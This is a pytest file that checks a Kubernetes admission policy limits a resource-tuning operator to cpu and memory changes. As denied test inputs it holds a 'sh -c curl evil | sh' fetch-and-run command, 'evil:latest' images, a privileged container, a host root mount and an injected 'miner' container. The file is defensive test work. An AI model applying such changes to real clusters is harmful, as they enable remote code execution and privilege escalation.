"""The operator's workload scope policy (config/admission), its CEL evaluated for real.

No fake API server here runs admission; vap.py evaluates the policy's expressions, read from the YAML,
with cel-expr-python against AdmissionReview-shaped UPDATE requests. The operator may change container
resources and nothing that decides what runs with which privileges.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from pathlib import Path
from typing import Any

import jsonpatch
import pytest
import yaml

from krr_mcp.api.resource_recommendation import ContainerChange, ContainerResources
from krr_mcp.core.patches import desired_resources, json_patch

from ..builders import workload
from .vap import AdmissionPolicy, Verdict

ROOT = Path(__file__).resolve().parents[2]
POLICY_FILE = ROOT / "config" / "admission" / "operator_workload_scope_policy.yaml"
OPERATOR = "system:serviceaccount:krr-mcp-system:krr-mcp-operator"
PLURALS = {
    "Deployment": "deployments",
    "StatefulSet": "statefulsets",
    "DaemonSet": "daemonsets",
    "CronJob": "cronjobs",
}


def _no_authorizer(*_: Any) -> bool:
    raise AssertionError("this policy never asks the authorizer")


@pytest.fixture(scope="module")
def documents() -> list[dict[str, Any]]:
    return [d for d in yaml.safe_load_all(POLICY_FILE.read_text()) if d]


@pytest.fixture(scope="module")
def policy(documents: list[dict[str, Any]]) -> AdmissionPolicy:
    return AdmissionPolicy(
        next(d for d in documents if d["kind"] == "ValidatingAdmissionPolicy"), _no_authorizer
    )


# workload() fields of Deployment shop/web as a person writes it: an app container with more than
# resources, a sidecar, an init container, a service account and a volume
SHOP_WEB: dict[str, Any] = {
    "namespace": "shop",
    "containers": [
        {
            "name": "app",
            "image": "registry.example/web:1.4",
            "args": ["--port=8080"],
            "env": [{"name": "MODE", "value": "prod"}],
            "resources": {"requests": {"cpu": "500m", "memory": "512Mi"}, "limits": {"memory": "512Mi"}},
            "readinessProbe": {"httpGet": {"path": "/ready", "port": 8080}},
            "securityContext": {"allowPrivilegeEscalation": False},
        },
        {"name": "sidecar", "image": "registry.example/proxy:2", "resources": {"requests": {"cpu": "50m"}}},
    ],
    "init_containers": [{"name": "migrate", "image": "registry.example/web:1.4", "command": ["migrate"]}],
    "pod_fields": {"serviceAccountName": "web", "volumes": [{"name": "cache", "emptyDir": {}}]},
    "replicas": None,
}


def pod_of(obj: dict[str, Any]) -> dict[str, Any]:
    spec = obj["spec"]
    return (spec["jobTemplate"]["spec"] if "jobTemplate" in spec else spec)["template"]["spec"]


def update(
    old: dict[str, Any], change: Callable[[dict[str, Any]], None], user: str = OPERATOR
) -> dict[str, Any]:
    new = copy.deepcopy(old)
    change(pod_of(new))
    kind = old["kind"]
    group, version = ("batch", "v1") if kind == "CronJob" else ("apps", "v1")
    return {
        "uid": "b7a1",
        "kind": {"group": group, "version": version, "kind": kind},
        "resource": {"group": group, "version": version, "resource": PLURALS[kind]},
        "subResource": "",
        "name": "web",
        "namespace": old["metadata"]["namespace"],
        "operation": "UPDATE",
        "userInfo": {"username": user, "groups": ["system:serviceaccounts", "system:authenticated"]},
        "object": new,
        "oldObject": old,
        "dryRun": False,
        "options": {},
    }


def resize(pod: dict[str, Any]) -> None:
    app = pod["containers"][0]
    app["resources"] = {"requests": {"cpu": "250m", "memory": "384Mi"}, "limits": {"memory": "384Mi"}}
    pod["containers"][1]["resources"] = {}


def _set(path: str, value: Any) -> Callable[[dict[str, Any]], None]:
    """A change setting `path` (dots; numbers index lists) in the pod spec."""

    def change(pod: dict[str, Any]) -> None:
        node: Any = pod
        keys = [int(k) if k.isdigit() else k for k in path.split(".")]
        for key in keys[:-1]:
            node = node[key]
        node[keys[-1]] = value

    return change


def denied(verdict: Verdict, fragment: str) -> bool:
    return verdict.matched and not verdict.allowed and any(fragment in m for m in verdict.messages)


CONTAINER_ONLY = "may change container resources only"
POD_LEVEL = "may not change the pod's identity"


@pytest.mark.parametrize("kind", list(PLURALS))
def test_the_operator_may_resize(policy: AdmissionPolicy, kind: str) -> None:
    verdict = policy.admit(update(workload(kind, **SHOP_WEB), resize))
    assert verdict.matched and verdict.allowed, verdict.messages


@pytest.mark.parametrize("kind", list(PLURALS))
def test_the_operator_may_not_swap_the_image(policy: AdmissionPolicy, kind: str) -> None:
    assert denied(
        policy.admit(update(workload(kind, **SHOP_WEB), _set("containers.0.image", "evil:latest"))),
        CONTAINER_ONLY,
    )


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (_set("containers.0.command", ["sh", "-c", "curl evil | sh"]), CONTAINER_ONLY),
        (_set("containers.0.args", ["--debug"]), CONTAINER_ONLY),
        (_set("containers.0.env", [{"name": "MODE", "value": "debug"}]), CONTAINER_ONLY),
        (_set("containers.1.envFrom", [{"secretRef": {"name": "db"}}]), CONTAINER_ONLY),
        (_set("containers.0.securityContext", {"privileged": True}), CONTAINER_ONLY),
        (_set("containers.0.readinessProbe", {"exec": {"command": ["sh"]}}), CONTAINER_ONLY),
        (_set("containers.1.lifecycle", {"postStart": {"exec": {"command": ["sh"]}}}), CONTAINER_ONLY),
        (_set("containers.0.volumeMounts", [{"name": "host", "mountPath": "/host"}]), CONTAINER_ONLY),
        (_set("containers.1.name", "renamed"), CONTAINER_ONLY),
        (lambda pod: pod["containers"].append({"name": "miner", "image": "miner"}), CONTAINER_ONLY),
        (lambda pod: pod["containers"].pop(), CONTAINER_ONLY),
        (_set("serviceAccountName", "cluster-admin-sa"), POD_LEVEL),
        (_set("automountServiceAccountToken", True), POD_LEVEL),
        (_set("hostNetwork", True), POD_LEVEL),
        (_set("hostPID", True), POD_LEVEL),
        (_set("securityContext", {"runAsUser": 0}), POD_LEVEL),
        (_set("volumes", [{"name": "host", "hostPath": {"path": "/"}}]), POD_LEVEL),
        (_set("nodeName", "control-plane-1"), POD_LEVEL),
        (_set("tolerations", [{"operator": "Exists"}]), POD_LEVEL),
        (_set("initContainers.0.image", "evil:latest"), POD_LEVEL),
        (
            _set("initContainers.0.resources", {"requests": {"cpu": "1"}}),
            POD_LEVEL,
        ),  # never the operator's to change
    ],
)
def test_the_operator_may_not_change_what_runs(policy: AdmissionPolicy, change: Any, message: str) -> None:
    assert denied(policy.admit(update(workload(**SHOP_WEB), change)), message)


@pytest.mark.parametrize("namespace", ["kube-system", "kube-public", "kube-node-lease", "krr-mcp-system"])
def test_the_operator_never_writes_in_protected_namespaces(policy: AdmissionPolicy, namespace: str) -> None:
    verdict = policy.admit(update(workload(**(SHOP_WEB | {"namespace": namespace})), resize))
    assert denied(verdict, f"the krr-mcp operator never changes workloads in namespace {namespace}")


def test_other_users_are_not_matched(policy: AdmissionPolicy) -> None:
    verdict = policy.admit(update(workload(**SHOP_WEB), _set("containers.0.image", "web:1.5"), user="alice"))
    assert not verdict.matched and verdict.allowed


def test_status_and_scale_are_not_matched(policy: AdmissionPolicy) -> None:
    request = update(workload(**SHOP_WEB), _set("containers.0.image", "evil"))
    for sub_resource in ("status", "scale"):
        assert not policy.admit({**request, "subResource": sub_resource}).matched


def test_binding(documents: list[dict[str, Any]]) -> None:
    vap = next(d for d in documents if d["kind"] == "ValidatingAdmissionPolicy")
    binding = next(d for d in documents if d["kind"] == "ValidatingAdmissionPolicyBinding")
    assert vap["spec"]["failurePolicy"] == "Fail"
    assert binding["spec"]["policyName"] == vap["metadata"]["name"]
    assert "Deny" in binding["spec"]["validationActions"]


def test_the_operator_is_recognised_in_any_install_namespace(policy: AdmissionPolicy) -> None:
    elsewhere = "system:serviceaccount:platform-tools:krr-mcp-operator"
    verdict = policy.admit(update(workload(**SHOP_WEB), _set("containers.0.image", "evil"), user=elsewhere))
    assert denied(verdict, CONTAINER_ONLY)


# -- issue 15 item 14: nothing but container cpu/memory requests and limits --------------------------

WORKLOAD_ONLY = "may not change the workload's labels"
OUTSIDE_TEMPLATE = "may not change replicas"
CPU_MEMORY_ONLY = "may change only the cpu and memory requests and limits"


def update_object(old: dict[str, Any], change: Callable[[dict[str, Any]], None]) -> dict[str, Any]:
    """An UPDATE by the operator with `change` applied to the whole object."""
    request = update(old, lambda _: None)
    change(request["object"])
    return request


def _template(obj: dict[str, Any]) -> dict[str, Any]:
    spec = obj["spec"]
    return (spec["jobTemplate"]["spec"] if "jobTemplate" in spec else spec)["template"]


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda o: o["metadata"].setdefault("labels", {}).update(team="evil"), WORKLOAD_ONLY),
        (lambda o: o["metadata"].setdefault("annotations", {}).update(x="y"), WORKLOAD_ONLY),
        (lambda o: o["metadata"].setdefault("finalizers", []).append("block"), WORKLOAD_ONLY),
        (lambda o: o["spec"].update(replicas=50), OUTSIDE_TEMPLATE),
        (lambda o: o["spec"].update(selector={"matchLabels": {"app": "other"}}), OUTSIDE_TEMPLATE),
        (lambda o: o["spec"].update(paused=True), OUTSIDE_TEMPLATE),
        (
            lambda o: _template(o)["metadata"].update(annotations={"sidecar.istio.io/inject": "false"}),
            OUTSIDE_TEMPLATE,
        ),
        (lambda o: _template(o)["metadata"]["labels"].update(app="hijacked"), OUTSIDE_TEMPLATE),
    ],
    ids=[
        "labels",
        "annotations",
        "finalizers",
        "replicas",
        "selector",
        "paused",
        "template annotations",
        "template labels",
    ],
)
def test_the_operator_may_not_touch_the_workload_outside_the_pod_spec(
    policy: AdmissionPolicy, change: Any, message: str
) -> None:
    assert denied(policy.admit(update_object(workload(**SHOP_WEB), change)), message)


def test_the_operator_may_not_change_a_cronjobs_schedule_or_job_settings(policy: AdmissionPolicy) -> None:
    cron = workload("CronJob", **SHOP_WEB)
    assert denied(
        policy.admit(update_object(cron, lambda o: o["spec"].update(schedule="* * * * *"))), OUTSIDE_TEMPLATE
    )
    assert denied(
        policy.admit(update_object(cron, lambda o: o["spec"]["jobTemplate"]["spec"].update(parallelism=100))),
        OUTSIDE_TEMPLATE,
    )
    assert denied(
        policy.admit(
            update_object(cron, lambda o: o["spec"]["jobTemplate"].update(metadata={"labels": {"a": "b"}}))
        ),
        OUTSIDE_TEMPLATE,
    )


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (_set("containers.0.ports", [{"containerPort": 80, "hostPort": 80}]), CONTAINER_ONLY),
        (
            _set("containers.0.resizePolicy", [{"resourceName": "cpu", "restartPolicy": "RestartContainer"}]),
            CONTAINER_ONLY,
        ),
        (_set("containers.0.resources.claims", [{"name": "gpu"}]), CPU_MEMORY_ONLY),
        (_set("containers.0.resources.requests.nvidia~1gpu", "1"), CPU_MEMORY_ONLY),
        (_set("containers.0.resources.limits.ephemeral-storage", "100Gi"), CPU_MEMORY_ONLY),
        (_set("resourceClaims", [{"name": "gpu", "resourceClaimName": "stolen"}]), POD_LEVEL),
        (_set("priority", 1000000), POD_LEVEL),
        (_set("dnsPolicy", "None"), POD_LEVEL),
        (_set("terminationGracePeriodSeconds", 0), POD_LEVEL),
    ],
    ids=[
        "hostPort",
        "resizePolicy",
        "resource claims",
        "a gpu",
        "ephemeral storage",
        "pod resource claims",
        "priority",
        "dnsPolicy",
        "grace period",
    ],
)
def test_the_operator_may_change_only_cpu_and_memory(
    policy: AdmissionPolicy, change: Any, message: str
) -> None:
    assert denied(policy.admit(update(workload(**SHOP_WEB), change)), message)


@pytest.mark.parametrize("kind", list(PLURALS))
def test_the_operators_real_patches_are_allowed(policy: AdmissionPolicy, kind: str) -> None:
    """krr_mcp/core/patches.py's apply and rollback patches (sections added and removed) pass, other resource
    names of the same container untouched."""
    old = workload(kind, **SHOP_WEB)
    app = pod_of(old)["containers"][0]
    app["resources"]["limits"]["ephemeral-storage"] = "1Gi"
    proposed = ContainerResources.model_validate({"requests": {"cpu": "250m", "memory": "256Mi"}})
    after = desired_resources(app["resources"], proposed)
    sidecar_after = desired_resources({}, ContainerResources.model_validate({"limits": {"cpu": "1"}}))
    changes = [
        ContainerChange(name="app", before=app["resources"], after=after),
        ContainerChange(
            name="sidecar", before=pod_of(old)["containers"][1]["resources"], after=sidecar_after
        ),
    ]
    applied = jsonpatch.apply_patch(old, json_patch(kind, old, changes))
    request = update(old, lambda _: None)
    verdict = policy.admit({**request, "object": applied})
    assert verdict.matched and verdict.allowed, verdict.messages
    rollback = [ContainerChange(name=c.name, before=c.after, after=c.before) for c in changes]
    restored = jsonpatch.apply_patch(applied, json_patch(kind, applied, rollback))
    assert restored == old
    verdict = policy.admit({**request, "object": restored, "oldObject": applied})
    assert verdict.matched and verdict.allowed, verdict.messages
